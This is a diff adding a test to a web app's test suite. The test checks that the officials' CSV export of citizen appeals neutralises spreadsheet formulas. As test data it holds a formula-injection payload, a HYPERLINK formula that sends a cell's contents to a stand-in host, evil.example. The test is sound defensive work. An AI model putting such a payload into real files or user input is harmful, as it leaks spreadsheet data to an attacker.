@@ -266,3 +266,11 @@ def test_a_group_of_appeals_becomes_a_project_candidate(client, make_appeal, mak
                            follow_redirects=True)
     assert "Only the officials of the department" in outsider.get_data(as_text=True)
     assert db.session.scalar(select(func.count()).select_from(ProjectCandidate)) == 1
+
+
+def test_the_csv_export_never_hands_a_formula_to_a_spreadsheet(client, make_appeal, desk):
+    village, category, _department, official = desk
+    make_appeal(village=village, category=category, body='=HYPERLINK("http://evil.example/"&A1,"Click")')
+    client.login(official)
+    rows = list(csv.reader(io.StringIO(client.get("/officials/appeals.csv").get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[1][-1] == '\'=HYPERLINK("http://evil.example/"&A1,"Click")'
